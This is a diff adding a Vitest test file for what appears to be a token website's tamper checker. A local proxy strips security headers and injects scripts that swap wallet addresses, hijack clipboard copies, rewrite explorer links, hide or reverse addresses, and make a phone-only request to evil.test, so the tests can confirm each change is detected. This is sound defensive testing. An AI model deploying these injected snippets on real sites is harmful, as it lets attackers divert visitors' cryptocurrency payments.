@@ -1,0 +1,110 @@
+import { createServer, type Server as HttpServer } from 'node:http';
+import { resolve } from 'node:path';
+import { site } from 'virtual:site';
+import { afterAll, beforeAll, expect, test, vi } from 'vitest';
+import { freePort, startServer, type Server } from '../../scripts/lib/server.ts';
+import { renderedPageProblems } from '../../scripts/rendered-page/rendered-page.ts';
+import { visitors } from '../../scripts/rendered-page/visitors.ts';
+
+// Each look opens some fifteen pages, and waits for each to settle.
+vi.setConfig({ testTimeout: 240_000, hookTimeout: 120_000 });
+
+const [desktop, phone] = visitors as [(typeof visitors)[0], (typeof visitors)[0]];
+const EVIL = '0x52908400098527886E0F7030069857D2E4169EE7';
+
+let server: Server;
+let proxy: HttpServer;
+let origin: string;
+/** A script that the proxy plants in every document, as somebody could who got past the build. */
+let planted = '';
+
+beforeAll(async () => {
+  process.env.PATH = `${resolve('node_modules/.bin')}:${process.env.PATH}`;
+  server = await startServer(await freePort());
+  proxy = createServer(async (request, response) => {
+    const upstream = await fetch(server.origin + request.url!, { method: request.method! });
+    const headers = new Headers(upstream.headers);
+    const names = ['content-encoding', 'content-length', 'transfer-encoding', 'connection'];
+    if (planted) names.push('content-security-policy', 'integrity-policy');
+    for (const name of names) headers.delete(name);
+    const body = Buffer.from(await upstream.arrayBuffer());
+    const isDocument = headers.get('content-type')?.startsWith('text/html');
+    const changed = isDocument && planted ? `${body}<script>${planted}</script>` : body;
+    response.writeHead(upstream.status, Object.fromEntries(headers)).end(changed);
+  });
+  const port = await freePort();
+  await new Promise<void>((done) => proxy.listen(port, '127.0.0.1', done));
+  origin = `http://127.0.0.1:${port}`;
+});
+afterAll(async () => {
+  proxy.close();
+  await server.stop();
+});
+
+async function problems(script: string, who = [desktop]): Promise<string> {
+  planted = script;
+  const found = await renderedPageProblems(origin, site, who);
+  planted = '';
+  return found.join('\n');
+}
+
+test('The site as it was built follows from its configuration, for every visitor', async () => {
+  expect(await renderedPageProblems(server.origin, site)).toEqual([]);
+});
+
+test('What a script changes after load is named: an address, the title, a label, a style sheet’s text, a new frame', async () => {
+  const found = await problems(`addEventListener('load', () => setTimeout(() => {
+    document.querySelectorAll('code.address')[1]?.replaceChildren('${EVIL}');
+    document.title = 'Claim now';
+    document.querySelector('footer [aria-label]').setAttribute('aria-label', 'Airdrop');
+    document.documentElement.insertAdjacentHTML('beforeend',
+      '<style>h1::after{content:" now at cl" "aim-token.com"}</style>');
+    document.body.append(document.createElement('iframe'));
+    document.querySelector('main').lastElementChild.attachShadow?.({ mode: 'closed' });
+  }, 600))`);
+  expect(found).toMatch(/\/index\.html, a desktop, first visit: it holds 0x52908400098527886E0F7030069857D2E4169EE7/);
+  expect(found).toMatch(/\/index\.html, .*: The contract cards show /);
+  expect(found).toMatch(/\/privacy\.html, a desktop, later visit: the title is "Claim now"/);
+  expect(found).toMatch(/\/terms\.html, .*: an attribute became .*aria-label="Airdrop"/);
+  expect(found).toMatch(/\/404\.html, .*: the text became /);
+  expect(found).toMatch(/it has a <iframe>/);
+  expect(found).toMatch(/an element has a shadow tree/);
+});
+
+test('What a script does to a visitor’s acts is named: a copy, a pressed link, an address that is covered or turned', async () => {
+  const found = await problems(`addEventListener('load', () => {
+    const write = navigator.clipboard.writeText.bind(navigator.clipboard);
+    let copies = 0;
+    navigator.clipboard.writeText = (text) => write(copies++ ? '${EVIL}' : text);
+    addEventListener('copy', (event) => {
+      event.clipboardData.setData('text/plain', '${EVIL}');
+      event.preventDefault();
+    });
+    addEventListener('pointerdown', ({ target }) => {
+      const link = target.closest('a[href*="bscscan"]');
+      if (link) link.href = 'https://bscscan.com/token/${EVIL}';
+    }, true);
+    const cards = document.querySelectorAll('code.address');
+    if (cards[0]) cards[0].style.direction = 'rtl', cards[0].style.unicodeBidi = 'bidi-override';
+    if (cards[1]) {
+      const cover = document.createElement('div');
+      cover.style = 'position:absolute;inset:0';
+      cards[1].parentElement.style.position = 'relative';
+      cards[1].parentElement.append(cover);
+    }
+  })`);
+  expect(found).toMatch(/copy button 2 puts \["0x5290/);
+  expect(found).not.toMatch(/copy button 1 puts/);
+  expect(found).toMatch(/copying address 1 by hand puts /);
+  expect(found).toMatch(
+    /the link to https:\/\/bscscan\.com\/token\/0x1234\S* leads to https:\/\/bscscan\.com\/token\/0x5290/,
+  );
+  expect(found).toMatch(/the characters of Demo\S* are not shown in their order/);
+  expect(found).toMatch(/something covers 0x1234/);
+});
+
+test('A script that only serves a phone is met on one', async () => {
+  const script = `if (/Android/.test(navigator.userAgent)) setTimeout(() => fetch('https://evil.test/').catch(() => 0), 300)`;
+  expect(await problems(script)).toBe('');
+  expect(await problems(script, [phone])).toMatch(/an Android phone, .*: it requests https:\/\/evil\.test\//);
+});
